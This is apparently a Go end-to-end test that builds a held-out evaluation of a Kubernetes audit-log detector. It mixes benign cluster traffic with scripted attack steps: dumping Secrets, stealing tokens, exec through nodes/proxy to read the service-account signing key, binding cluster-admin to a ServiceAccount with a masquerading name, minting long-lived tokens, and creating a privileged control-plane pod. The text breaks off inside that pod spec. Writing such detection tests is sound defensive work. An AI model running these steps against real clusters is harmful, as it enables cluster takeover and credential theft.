package e2e

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"sort"
	"strings"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	batchv1 "k8s.io/api/batch/v1"
	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	policyv1 "k8s.io/api/policy/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/apiguard/apiguard/test/e2e/lab"
)

// Source addresses (all of 127/8 is loopback): the attacker's two exit
// points, the pods of the in-cluster controllers, the corporate VPN of the
// humans, and the control-plane host itself.
const (
	h3AttackerIP  = "127.4.0.66"
	h3AttackerIP2 = "127.4.0.67"
	h3AgentIP     = "127.4.1.10"
	h3ArgoIP      = "127.4.1.20"
	h3CertMgrIP   = "127.4.1.21"
	h3ESOIP       = "127.4.1.22"
	h3CIIP        = "127.4.1.30"
	h3AliceIP     = "127.4.2.11"
	h3SamIP       = "127.4.2.12"
	h3RaviIP      = "127.4.2.13"
	h3DanaIP      = "127.4.2.14"
	h3HostIP      = "" // default dialer: 127.0.0.1, like kube-controller-manager and the kubelet

	h3UAKubectl    = "kubectl/v1.36.1 (linux/amd64) kubernetes/5f3a9c1"
	h3UAOldKubectl = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"
	h3UAAgent      = "telemetry-agent/7.54.0 (linux/amd64)"
	h3UAArgo       = "argocd-application-controller/v2.13.1+af54ef8 (linux/amd64)"
	h3UACertMgr    = "cert-manager-certificates-issuing/v1.16.2 (linux/amd64) cert-manager/6f1d3a1"
	h3UAESO        = "external-secrets/v0.10.7 (linux/amd64)"
	h3UAHelm       = "Helm/3.16.3"
	h3UAHPA        = "kube-controller-manager/v1.36.3 (linux/amd64) kubernetes/$Format/system:serviceaccount:kube-system:horizontal-pod-autoscaler"
	h3UAKubelet    = "kubelet/v1.36.3 (linux/amd64) kubernetes/$Format"
	h3UACurl       = "curl/8.5.0"
)

// h3step is one logical action of the scenario, visible to kube-apiserver.
type h3step struct {
	name      string
	attack    bool
	technique string // ATT&CK / Threat Matrix for Kubernetes / KubeHound / Stratus label
	why       string
	before    func() error // unrecorded preparation (admin client): waits for informers
	run       func() error // the action; an error means it did not execute as intended
}

// h3world holds what the setup created for the steps.
type h3world struct {
	agentKC, promToken, provKC, argoKC, certMgrKC, esoKC, ciKC, hpaKC string
	aliceKC, samKC, raviKC, danaKC, nodeKC                            string
}

// TestAuditHeldOut3 is the third held-out evaluation corpus of `apiguard
// audit scan`: a scripted scenario of benign traffic and attack steps run
// against a real kube-apiserver (the Hardened lab, whose audit policy logs
// Secrets, ConfigMaps, token requests and TokenReviews at Metadata and the
// rest at RequestResponse), then a scan of the audit log it wrote.
//
// Held-out method: the scenario was written from public attack knowledge
// (Stratus Red Team's Kubernetes techniques, Microsoft's Threat Matrix for
// Kubernetes, MITRE ATT&CK Containers, KubeHound's attack edges, Bad Pods,
// HackTricks' RBAC-abuse pages, public incident write-ups and the
// Kubernetes RBAC good-practices page) by someone who did not read the
// detector's rules, their documentation, the other audit tests' step lists
// or the earlier held-out corpora; it was fixed before the detector was run
// on it, and only steps that failed to execute at all may be changed
// afterwards. The playbook, sources and method are in
// testdata/heldout3/README.md.
//
// Story: the token of a third-party observability agent (a DaemonSet with a
// broad read-only ClusterRole that includes nodes/proxy and Secrets) leaks
// from the vendor side. From outside, the attacker reads a legacy token of a
// tenant-provisioning operator (bind/escalate on RBAC, serviceaccounts/token),
// mints a cluster-admin ServiceAccount with a masquerading name and a
// year-long token, takes the control-plane node, persists, blinds the
// security tooling, moves laterally into a GitOps identity and a minted
// client certificate, and finally destroys a tenant namespace. Around it, a
// day of legitimate operators, GitOps, Helm, HPA, an SRE draining a node,
// auditors reading everything and CI running jobs.
//
// The test asserts that every step executed as intended (including the
// refusals the attacker ran into); it does NOT assert on the detection rate
// or on alerts on benign steps: it measures them, logs a table, and writes
// a JSON summary to $APIGUARD_HELDOUT_OUT when set.
func TestAuditHeldOut3(t *testing.T) {
	began := time.Now()
	c := lab.Start(t, lab.Hardened)
	c.WaitAggregated(t)
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	admin := c.AdminClient(t)
	w := h3setup(ctx, t, c, admin)
	setupDone := time.Now()

	rec := &auditRecorder{steps: map[string]string{}}
	mk := func(kc, ip, ua string) *rest.Config { return h3config(t, rec, kc, ip, ua) }
	cs := func(cfg *rest.Config) kubernetes.Interface {
		k, err := kubernetes.NewForConfig(cfg)
		if err != nil {
			t.Fatal(err)
		}
		return k
	}

	// Legitimate identities, from where they normally run.
	agentIn := cs(mk(w.agentKC, h3AgentIP, h3UAAgent))
	argo := cs(mk(w.argoKC, h3ArgoIP, h3UAArgo))
	certMgr := cs(mk(w.certMgrKC, h3CertMgrIP, h3UACertMgr))
	eso := cs(mk(w.esoKC, h3ESOIP, h3UAESO))
	ci := cs(mk(w.ciKC, h3CIIP, h3UAKubectl))
	hpa := cs(mk(w.hpaKC, h3HostIP, h3UAHPA))
	node := cs(mk(w.nodeKC, h3HostIP, h3UAKubelet))
	alice := cs(mk(w.aliceKC, h3AliceIP, h3UAHelm))
	sam := cs(mk(w.samKC, h3SamIP, h3UAKubectl))
	ravi := cs(mk(w.raviKC, h3RaviIP, h3UAKubectl))
	dana := cs(mk(w.danaKC, h3DanaIP, h3UAKubectl))

	// The attacker: the stolen agent token and the found provisioner token
	// from outside; later identities are minted during the attack.
	agentAtk := cs(mk(w.agentKC, h3AttackerIP, h3UAOldKubectl))
	provAtk := cs(mk(w.provKC, h3AttackerIP, h3UAOldKubectl))
	var (
		npdCfg     *rest.Config
		npd        kubernetes.Interface
		argoAtk    kubernetes.Interface
		mintedCert kubernetes.Interface
		csrKey     *ecdsa.PrivateKey
		provToken  string
	)
	const (
		npdName   = "node-problem-detector"
		csrName   = "node-csr-q7Vd2mXbT1yKp2LdW4hJ6sN9cR5eA7uGiO0xB3kPwZs"
		mirrorPod = "kube-apiserver-lab-control-plane"
	)
	fm := func(m string) metav1.PatchOptions { return metav1.PatchOptions{FieldManager: m, Force: ptr(true)} }

	steps := []h3step{
		// ---------------- benign: GitOps, operators, agent, Helm, auditors, CI
		{name: "b01-gitops-apply-web-deployment", why: "Argo CD syncs the shop app: server-side apply of a Deployment",
			run: func() error {
				_, err := argo.AppsV1().Deployments("shop").Patch(ctx, "web", types.ApplyPatchType, h3webDeployment("v1.8.2"), fm("argocd-controller"))
				return err
			}},
		{name: "b02-gitops-apply-service-configmap", why: "Argo CD applies the Service and ConfigMap of the same app",
			run: func() error {
				if _, err := argo.CoreV1().Services("shop").Patch(ctx, "web", types.ApplyPatchType, h3json(map[string]any{
					"apiVersion": "v1", "kind": "Service", "metadata": map[string]any{"name": "web", "namespace": "shop", "labels": map[string]any{"argocd.argoproj.io/instance": "shop"}},
					"spec": map[string]any{"selector": map[string]any{"app": "web"}, "ports": []any{map[string]any{"name": "http", "port": 80, "targetPort": 8080}}},
				}), fm("argocd-controller")); err != nil {
					return err
				}
				_, err := argo.CoreV1().ConfigMaps("shop").Patch(ctx, "web-config", types.ApplyPatchType, h3json(map[string]any{
					"apiVersion": "v1", "kind": "ConfigMap", "metadata": map[string]any{"name": "web-config", "namespace": "shop", "labels": map[string]any{"argocd.argoproj.io/instance": "shop"}},
					"data": map[string]any{"LOG_LEVEL": "info", "CHECKOUT_URL": "http://checkout.shop.svc:8080"},
				}), fm("argocd-controller"))
				return err
			}},
		{name: "b03-gitops-apply-tenant-rolebinding", why: "Argo CD applies the tenant's RoleBinding of ClusterRole edit to its developers, in its own namespace",
			run: func() error {
				_, err := argo.RbacV1().RoleBindings("shop").Patch(ctx, "shop-devs-edit", types.ApplyPatchType, h3json(map[string]any{
					"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
					"metadata": map[string]any{"name": "shop-devs-edit", "namespace": "shop", "labels": map[string]any{"argocd.argoproj.io/instance": "tenants"}},
					"roleRef":  map[string]any{"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "edit"},
					"subjects": []any{map[string]any{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "shop-devs"}},
				}), fm("argocd-controller"))
				return err
			}},
		{name: "b04-gitops-apply-backup-cronjob", why: "Argo CD applies the payments team's nightly database backup CronJob (restricted pod)",
			run: func() error {
				spec := h3restrictedSpecMap("backup", "registry.corp.example/payments/pg-backup:15.4")
				spec["restartPolicy"] = "OnFailure"
				_, err := argo.BatchV1().CronJobs("payments").Patch(ctx, "db-backup", types.ApplyPatchType, h3json(map[string]any{
					"apiVersion": "batch/v1", "kind": "CronJob",
					"metadata": map[string]any{"name": "db-backup", "namespace": "payments", "labels": map[string]any{"argocd.argoproj.io/instance": "payments"}},
					"spec": map[string]any{"schedule": "0 2 * * *", "concurrencyPolicy": "Forbid",
						"jobTemplate": map[string]any{"spec": map[string]any{"template": map[string]any{"spec": spec}}}},
				}), fm("argocd-controller"))
				return err
			}},
		{name: "b05-certmanager-informer-list", why: "cert-manager's informer lists the Secrets it manages cluster-wide, by label",
			run: func() error {
				_, err := certMgr.CoreV1().Secrets("").List(ctx, metav1.ListOptions{LabelSelector: "controller.cert-manager.io/fao=true", Limit: 500})
				return err
			}},
		{name: "b06-certmanager-issue-tls", why: "cert-manager reads its CA and writes the issued certificate into the app namespace",
			run: func() error {
				if _, err := certMgr.CoreV1().Secrets("cert-manager").Get(ctx, "ca-key-pair", metav1.GetOptions{}); err != nil {
					return err
				}
				_, err := certMgr.CoreV1().Secrets("shop").Create(ctx, h3tlsSecret("shop", "web-tls", "1"), metav1.CreateOptions{FieldManager: "cert-manager-certificates-issuing"})
				return err
			}},
		{name: "b07-eso-sync-secrets", why: "external-secrets writes synced Secrets into two tenant namespaces",
			run: func() error {
				for _, s := range []struct{ ns, name string }{{"payments", "db-credentials"}, {"shop", "stripe-api-key"}} {
					if _, err := eso.CoreV1().Secrets(s.ns).Create(ctx, &corev1.Secret{
						ObjectMeta: metav1.ObjectMeta{Name: s.name, Namespace: s.ns, Labels: map[string]string{"reconcile.external-secrets.io/managed": "true"},
							Annotations: map[string]string{"reconcile.external-secrets.io/data-hash": "3f1c0e9a"}},
						Type: corev1.SecretTypeOpaque, Data: map[string][]byte{"value": []byte("synced-from-vault")},
					}, metav1.CreateOptions{FieldManager: "external-secrets"}); err != nil {
						return err
					}
				}
				return nil
			}},
		{name: "b08-agent-scrape", why: "the observability agent, from its pod, lists pods and nodes and scrapes cAdvisor through nodes/proxy (fails: no kubelet)",
			run: func() error {
				if _, err := agentIn.CoreV1().Pods("").List(ctx, metav1.ListOptions{ResourceVersion: "0"}); err != nil {
					return err
				}
				if _, err := agentIn.CoreV1().Nodes().List(ctx, metav1.ListOptions{ResourceVersion: "0"}); err != nil {
					return err
				}
				return h3pastAuthz(agentIn.CoreV1().RESTClient().Get().AbsPath("/api/v1/nodes", c.NodeName, "proxy", "metrics", "cadvisor").Do(ctx).Error())
			}},
		{name: "b09-agent-tokenreview", why: "the agent's kube-rbac-proxy authenticates Prometheus' scrape with a TokenReview",
			run: func() error {
				tr, err := agentIn.AuthenticationV1().TokenReviews().Create(ctx, &authenticationv1.TokenReview{Spec: authenticationv1.TokenReviewSpec{Token: w.promToken}}, metav1.CreateOptions{})
				if err == nil && !tr.Status.Authenticated {
					err = fmt.Errorf("prometheus token not authenticated: %s", tr.Status.Error)
				}
				return err
			}},
		{name: "b10-helm-history", why: "alice runs helm history/upgrade: Helm lists its release Secrets by label",
			run: func() error {
				_, err := alice.CoreV1().Secrets("shop").List(ctx, metav1.ListOptions{LabelSelector: "name=shop-frontend,owner=helm"})
				return err
			}},
		{name: "b11-helm-upgrade", why: "helm upgrade: new release Secret, Deployment patch, old release marked superseded",
			run: func() error {
				if _, err := alice.CoreV1().Secrets("shop").Create(ctx, h3helmRelease(2, "pending-upgrade"), metav1.CreateOptions{}); err != nil {
					return err
				}
				if _, err := alice.AppsV1().Deployments("shop").Get(ctx, "frontend", metav1.GetOptions{}); err != nil {
					return err
				}
				if _, err := alice.AppsV1().Deployments("shop").Patch(ctx, "frontend", types.StrategicMergePatchType,
					[]byte(`{"spec":{"template":{"spec":{"containers":[{"name":"frontend","image":"registry.corp.example/shop/frontend:2.4.1"}]}}}}`), metav1.PatchOptions{FieldManager: "helm"}); err != nil {
					return err
				}
				if _, err := alice.CoreV1().Secrets("shop").Update(ctx, h3helmRelease(1, "superseded"), metav1.UpdateOptions{}); err != nil {
					return err
				}
				_, err := alice.CoreV1().Secrets("shop").Update(ctx, h3helmRelease(2, "deployed"), metav1.UpdateOptions{})
				return err
			}},
		{name: "b12-auditor-get-all", why: "an auditor of the read-only group runs kubectl get all -A",
			run: func() error {
				o := metav1.ListOptions{Limit: 500}
				for _, f := range []func() error{
					func() error { _, err := ravi.CoreV1().Pods("").List(ctx, o); return err },
					func() error { _, err := ravi.CoreV1().Services("").List(ctx, o); return err },
					func() error { _, err := ravi.AppsV1().DaemonSets("").List(ctx, o); return err },
					func() error { _, err := ravi.AppsV1().Deployments("").List(ctx, o); return err },
					func() error { _, err := ravi.AppsV1().ReplicaSets("").List(ctx, o); return err },
					func() error { _, err := ravi.BatchV1().Jobs("").List(ctx, o); return err },
					func() error { _, err := ravi.BatchV1().CronJobs("").List(ctx, o); return err },
				} {
					if err := f(); err != nil {
						return err
					}
				}
				return nil
			}},
		{name: "b13-auditor-describe", why: "the auditor describes a Deployment: get, its ReplicaSets, its events",
			run: func() error {
				if _, err := ravi.AppsV1().Deployments("shop").Get(ctx, "web", metav1.GetOptions{}); err != nil {
					return err
				}
				if _, err := ravi.AppsV1().ReplicaSets("shop").List(ctx, metav1.ListOptions{LabelSelector: "app=web"}); err != nil {
					return err
				}
				_, err := ravi.CoreV1().Events("shop").List(ctx, metav1.ListOptions{FieldSelector: "involvedObject.name=web,involvedObject.namespace=shop,involvedObject.kind=Deployment"})
				return err
			}},
		{name: "b14-ci-create-job", why: "the CI runner creates its build ConfigMap and Job in its own namespace",
			run: func() error {
				if _, err := ci.CoreV1().ConfigMaps("ci").Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "build-1234-env"}, Data: map[string]string{"GIT_SHA": "9c1e2f7", "TARGET": "shop/web"}}, metav1.CreateOptions{}); err != nil {
					return err
				}
				spec := h3restrictedPodSpec("build", "registry.corp.example/ci/builder:2024.11")
				spec.RestartPolicy = corev1.RestartPolicyNever
				_, err := ci.BatchV1().Jobs("ci").Create(ctx, &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: "build-1234"},
					Spec: batchv1.JobSpec{BackoffLimit: ptr(int32(0)), Template: corev1.PodTemplateSpec{Spec: spec}}}, metav1.CreateOptions{})
				return err
			}},

		// ---------------- attack phase A: stolen agent token, from outside
		{name: "a01-unauthenticated-probe", attack: true, technique: "Discovery: exposed API server probing (Threat Matrix 'Access Kubernetes API server'; Kinsing/TeamTNT/Dero scanning)",
			why: "before using the token, the attacker checks what the endpoint gives away without credentials and with a guessed token (all 401)",
			run: func() error {
				hc := h3anonClient(t, c, rec, h3AttackerIP)
				for _, p := range []struct{ path, token string }{
					{"/version", ""}, {"/api/v1/namespaces/kube-system/secrets", ""}, {"/api/v1/pods", "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.c2lnbmF0dXJl"},
				} {
					if err := h3rawGet(ctx, hc, c.URL+p.path, p.token, http.StatusUnauthorized); err != nil {
						return err
					}
				}
				return nil
			}},
		{name: "a02-stolen-token-whoami", attack: true, technique: "Discovery: permission enumeration (KubeHound PERMISSION_DISCOVER; kubectl auth whoami / can-i --list)",
			why: "the leaked agent token is tried from outside: who am I, what may I do",
			run: func() error {
				if _, err := agentAtk.AuthenticationV1().SelfSubjectReviews().Create(ctx, &authenticationv1.SelfSubjectReview{}, metav1.CreateOptions{}); err != nil {
					return err
				}
				_, err := agentAtk.AuthorizationV1().SelfSubjectRulesReviews().Create(ctx, &authorizationv1.SelfSubjectRulesReview{Spec: authorizationv1.SelfSubjectRulesReviewSpec{Namespace: "kube-system"}}, metav1.CreateOptions{})
				return err
			}},
		{name: "a03-recon-refused", attack: true, technique: "Discovery (refused): RBAC and admission enumeration, pod creation probe",
			why: "the attacker tries what the agent may not do: list ClusterRoleBindings and webhooks, create a pod (403 each)",
			run: func() error {
				_, err := agentAtk.RbacV1().ClusterRoleBindings().List(ctx, metav1.ListOptions{})
				if err := h3denied(err); err != nil {
					return err
				}
				_, err = agentAtk.AdmissionregistrationV1().MutatingWebhookConfigurations().List(ctx, metav1.ListOptions{})
				if err := h3denied(err); err != nil {
					return err
				}
				_, err = agentAtk.CoreV1().Pods("observability").Create(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "dbg"}, Spec: h3restrictedPodSpec("dbg", "busybox:1.36")}, metav1.CreateOptions{})
				return h3denied(err)
			}},
		{name: "a04-enumerate-cluster", attack: true, technique: "Discovery: container and resource discovery (ATT&CK T1613)",
			why: "the attacker maps namespaces, nodes, pods and Deployments cluster-wide with the agent's read rights",
			run: func() error {
				if _, err := agentAtk.CoreV1().Namespaces().List(ctx, metav1.ListOptions{}); err != nil {
					return err
				}
				if _, err := agentAtk.CoreV1().Nodes().List(ctx, metav1.ListOptions{}); err != nil {
					return err
				}
				if _, err := agentAtk.CoreV1().Pods("").List(ctx, metav1.ListOptions{Limit: 500}); err != nil {
					return err
				}
				_, err := agentAtk.AppsV1().Deployments("").List(ctx, metav1.ListOptions{Limit: 500})
				return err
			}},
		{name: "a05-nodes-proxy-runningpods", attack: true, technique: "Discovery/privilege escalation: kubelet API through nodes/proxy (Stratus k8s.privilege-escalation.nodes-proxy)",
			why: "the attacker asks the control-plane node's kubelet for its running pods through the API server proxy",
			run: func() error {
				return h3pastAuthz(agentAtk.CoreV1().RESTClient().Get().AbsPath("/api/v1/nodes", c.NodeName, "proxy", "runningpods").Do(ctx).Error())
			}},
		{name: "a06-nodes-proxy-exec", attack: true, technique: "Execution: kubelet /exec through nodes/proxy with only get (KubeHound/Threat Matrix 'kubelet API'; nodes/proxy GET websocket exec)",
			why: "the attacker tries to run a command in the kube-apiserver static pod through the kubelet, bypassing pods/exec RBAC",
			run: func() error {
				return h3pastAuthz(agentAtk.CoreV1().RESTClient().Get().AbsPath("/api/v1/nodes", c.NodeName, "proxy", "exec", "kube-system", mirrorPod, "kube-apiserver").
					Param("command", "cat").Param("command", "/etc/kubernetes/pki/sa.key").Param("output", "1").Param("error", "1").Do(ctx).Error())
			}},
		{name: "a07-dump-secrets-cluster-wide", attack: true, technique: "Credential access: list Secrets cluster-wide (Stratus k8s.credential-access.dump-secrets; KubeHound TOKEN_LIST)",
			why: "the over-broad agent role can read every Secret: the attacker dumps them all",
			run: func() error {
				_, err := agentAtk.CoreV1().Secrets("").List(ctx, metav1.ListOptions{})
				return err
			}},
		{name: "a08-get-legacy-token-secret", attack: true, technique: "Credential access: steal a long-lived ServiceAccount token Secret (ATT&CK T1528)",
			why: "the dump shows a legacy token of the tenant provisioner, which holds bind/escalate: the attacker fetches it",
			run: func() error {
				s, err := agentAtk.CoreV1().Secrets("platform").Get(ctx, "tenant-provisioner-token", metav1.GetOptions{})
				if err == nil {
					provToken = string(s.Data["token"])
				}
				return err
			}},
		{name: "a09-tokenreview-stolen-token", attack: true, technique: "Credential access: validate a stolen token with the TokenReview API",
			why: "the attacker uses the agent's tokenreviews right to check that the stolen token is live and whose it is",
			run: func() error {
				tr, err := agentAtk.AuthenticationV1().TokenReviews().Create(ctx, &authenticationv1.TokenReview{Spec: authenticationv1.TokenReviewSpec{Token: provToken}}, metav1.CreateOptions{})
				if err == nil && !tr.Status.Authenticated {
					err = fmt.Errorf("stolen token not authenticated: %s", tr.Status.Error)
				}
				return err
			}},

		// ---------------- benign
		{name: "b15-hpa-scale", why: "the HPA controller reads and updates the scale subresource of the web Deployment",
			run: func() error {
				s, err := hpa.AppsV1().Deployments("shop").GetScale(ctx, "web", metav1.GetOptions{})
				if err != nil {
					return err
				}
				s.Spec.Replicas = 3
				_, err = hpa.AppsV1().Deployments("shop").UpdateScale(ctx, "web", s, metav1.UpdateOptions{})
				return err
			}},
		{name: "b16-sre-kubectl-scale", why: "the on-call SRE scales web up before a sale (kubectl scale)",
			run: func() error {
				_, err := sam.AppsV1().Deployments("shop").Patch(ctx, "web", types.MergePatchType, []byte(`{"spec":{"replicas":4}}`), metav1.PatchOptions{}, "scale")
				return err
			}},
		{name: "b17-sre-rollout-restart", why: "the SRE restarts the web rollout (kubectl rollout restart)",
			run: func() error {
				_, err := sam.AppsV1().Deployments("shop").Patch(ctx, "web", types.StrategicMergePatchType,
					[]byte(`{"spec":{"template":{"metadata":{"annotations":{"kubectl.kubernetes.io/restartedAt":"2026-03-02T10:15:00Z"}}}}}`), metav1.PatchOptions{FieldManager: "kubectl-rollout"})
				return err
			}},
		{name: "b18-node-csr-rotation", why: "the kubelet rotates its client certificate: a node CSR for its own name",
			run: func() error {
				req, _ := h3csr(t, "system:node:"+c.NodeName, "system:nodes")
				got, err := node.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{
					ObjectMeta: metav1.ObjectMeta{GenerateName: "csr-"},
					Spec: certificatesv1.CertificateSigningRequestSpec{Request: req, SignerName: certificatesv1.KubeAPIServerClientKubeletSignerName,
						Usages: []certificatesv1.KeyUsage{certificatesv1.UsageDigitalSignature, certificatesv1.UsageClientAuth}},
				}, metav1.CreateOptions{})
				if err != nil {
					return err
				}
				_, err = node.CertificatesV1().CertificateSigningRequests().Get(ctx, got.Name, metav1.GetOptions{})
				return err
			}},

		// ---------------- attack phase B: the provisioner's legacy token
		{name: "a10-provisioner-can-i", attack: true, technique: "Discovery: SelfSubjectAccessReview of escalation verbs (HackTricks RBAC abuse)",
			why: "with the new token the attacker asks: may I bind cluster-admin, escalate roles, mint tokens",
			run: func() error {
				for _, ra := range []authorizationv1.ResourceAttributes{
					{Verb: "bind", Group: "rbac.authorization.k8s.io", Resource: "clusterroles", Name: "cluster-admin"},
					{Verb: "escalate", Group: "rbac.authorization.k8s.io", Resource: "clusterroles"},
					{Verb: "create", Resource: "serviceaccounts", Subresource: "token", Namespace: "kube-system"},
				} {
					if _, err := provAtk.AuthorizationV1().SelfSubjectAccessReviews().Create(ctx, &authorizationv1.SelfSubjectAccessReview{Spec: authorizationv1.SelfSubjectAccessReviewSpec{ResourceAttributes: &ra}}, metav1.CreateOptions{}); err != nil {
						return err
					}
				}
				return nil
			}},
		{name: "a11-escalate-agent-clusterrole", attack: true, technique: "Privilege escalation: escalate verb, JSON patch adding rules to an existing ClusterRole (RBAC good practices: escalate)",
			why: "the attacker widens the stolen agent's own ClusterRole with pods/exec and token minting, as a fallback foothold",
			run: func() error {
				_, err := provAtk.RbacV1().ClusterRoles().Patch(ctx, "telemetry-agent", types.JSONPatchType,
					[]byte(`[{"op":"add","path":"/rules/-","value":{"apiGroups":[""],"resources":["pods","pods/exec","serviceaccounts/token"],"verbs":["create","get"]}}]`), metav1.PatchOptions{})
				return err
			}},
		{name: "a12-create-masquerading-sa", attack: true, technique: "Persistence/defence evasion: ServiceAccount with a system-component name in kube-system (masquerading, T1036)",
			why: "the attacker creates kube-system/node-problem-detector, a name nobody questions",
			run: func() error {
				_, err := provAtk.CoreV1().ServiceAccounts("kube-system").Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: npdName, Labels: map[string]string{"k8s-app": npdName}}}, metav1.CreateOptions{})
				return err
			}},
		{name: "a13-bind-cluster-admin", attack: true, technique: "Privilege escalation/persistence: new ClusterRoleBinding to the existing cluster-admin (bind verb; KubeHound ROLE_BIND)",
			why: "the attacker binds cluster-admin to that ServiceAccount under a system:-looking binding name",
			run: func() error {
				_, err := provAtk.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
					ObjectMeta: metav1.ObjectMeta{Name: "system:node-problem-detector", Labels: map[string]string{"kubernetes.io/bootstrapping": "rbac-defaults"}},
					RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
					Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: npdName, Namespace: "kube-system"}},
				}, metav1.CreateOptions{})
				return err
			}},
		{name: "a14-year-long-token", attack: true, technique: "Persistence: TokenRequest with a one-year expiry (Stratus k8s.persistence.create-token)",
			why: "the attacker mints a token valid for a year for the new cluster-admin ServiceAccount",
			run: func() error {
				tr, err := provAtk.CoreV1().ServiceAccounts("kube-system").CreateToken(ctx, npdName, &authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: ptr(int64(365 * 24 * 3600))}}, metav1.CreateOptions{})
				if err != nil {
					return err
				}
				npdCfg = mk(c.TokenKubeconfig(t, "h3-npd", tr.Status.Token), h3AttackerIP, h3UAOldKubectl)
				npd = cs(npdCfg)
				return nil
			}},
		{name: "a15-legacy-token-secret", attack: true, technique: "Persistence: non-expiring legacy ServiceAccount token Secret (long-lived credential)",
			before: func() error {
				return h3waitSAR(ctx, admin, "system:serviceaccount:kube-system:"+npdName, h3saGroups("kube-system"), authorizationv1.ResourceAttributes{Verb: "create", Resource: "secrets", Namespace: "kube-system"})
			},
			why: "a year is not enough: the attacker asks the token controller for a never-expiring token Secret",
			run: func() error {
				_, err := npd.CoreV1().Secrets("kube-system").Create(ctx, &corev1.Secret{
					ObjectMeta: metav1.ObjectMeta{Name: npdName + "-token", Annotations: map[string]string{corev1.ServiceAccountNameKey: npdName}},
					Type:       corev1.SecretTypeServiceAccountToken,
				}, metav1.CreateOptions{})
				return err
			}},

		// ---------------- benign: SRE node maintenance, CI
		{name: "b19-sre-cordon", why: "the SRE cordons the node for kernel patching (kubectl cordon)",
			run: func() error {
				_, err := sam.CoreV1().Nodes().Patch(ctx, c.NodeName, types.StrategicMergePatchType, []byte(`{"spec":{"unschedulable":true}}`), metav1.PatchOptions{})
				return err
			}},
		{name: "b20-sre-drain", why: "kubectl drain: list the node's pods, evict the app pod (mirror pod skipped)",
			run: func() error {
				if _, err := sam.CoreV1().Pods("").List(ctx, metav1.ListOptions{FieldSelector: "spec.nodeName=" + c.NodeName}); err != nil {
					return err
				}
				return sam.PolicyV1().Evictions("shop").Evict(ctx, &policyv1.Eviction{ObjectMeta: metav1.ObjectMeta{Name: "web-legacy-0", Namespace: "shop"}})
			}},
		{name: "b21-sre-uncordon", why: "patching done: the SRE uncordons the node",
			run: func() error {
				_, err := sam.CoreV1().Nodes().Patch(ctx, c.NodeName, types.StrategicMergePatchType, []byte(`{"spec":{"unschedulable":null}}`), metav1.PatchOptions{})
				return err
			}},
		{name: "b22-ci-watch-job", why: "the CI runner polls its Job and lists its pods",
			run: func() error {
				if _, err := ci.BatchV1().Jobs("ci").Get(ctx, "build-1234", metav1.GetOptions{}); err != nil {
					return err
				}
				_, err := ci.CoreV1().Pods("ci").List(ctx, metav1.ListOptions{LabelSelector: "job-name=build-1234"})
				return err
			}},
		{name: "b23-ci-cleanup", why: "the CI runner deletes its finished Job and ConfigMap",
			run: func() error {
				if err := ci.BatchV1().Jobs("ci").Delete(ctx, "build-1234", metav1.DeleteOptions{PropagationPolicy: ptr(metav1.DeletePropagationBackground)}); err != nil {
					return err
				}
				return ci.CoreV1().ConfigMaps("ci").Delete(ctx, "build-1234-env", metav1.DeleteOptions{})
			}},

		// ---------------- attack phase C: cluster-admin as kube-system/node-problem-detector
		{name: "a16-untaint-control-plane", attack: true, technique: "Privilege escalation enabler: remove the control-plane taint so workloads land there",
			why: "the attacker removes node-role.kubernetes.io/control-plane:NoSchedule (kubectl taint ...-)",
			run: func() error {
				n, err := npd.CoreV1().Nodes().Get(ctx, c.NodeName, metav1.GetOptions{})
				if err != nil {
					return err
				}
				keep := []corev1.Taint{}
				for _, tn := range n.Spec.Taints {
					if tn.Key != "node-role.kubernetes.io/control-plane" {
						keep = append(keep, tn)
					}
				}
				_, err = npd.CoreV1().Nodes().Patch(ctx, c.NodeName, types.StrategicMergePatchType, h3json(map[string]any{"spec": map[string]any{"taints": keep}}), metav1.PatchOptions{})
				return err
			}},
		{name: "a17-node-debugger-pod-control-plane", attack: true, technique: "Privilege escalation: privileged pod with host PID/network/IPC and / mounted, pinned to the control plane (Bad Pods everything-allowed; kubectl debug node --profile=sysadmin)",
			why: "the attacker gets a root shell on the control-plane host with a pod that looks like kubectl debug node",
			run: func() error {
				_, err := npd.CoreV1().Pods("kube-system").Create(ctx, &corev1.Pod{
					ObjectMeta: metav1.ObjectMeta{Name: "node-debugger-" + c.NodeName + "-7xk2p"},
					Spec: corev1.PodSpec{NodeName: c.NodeName, HostPID: true, HostNetwork: true, HostIPC: true, RestartPolicy: corev1.RestartPolicyNever,
						Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
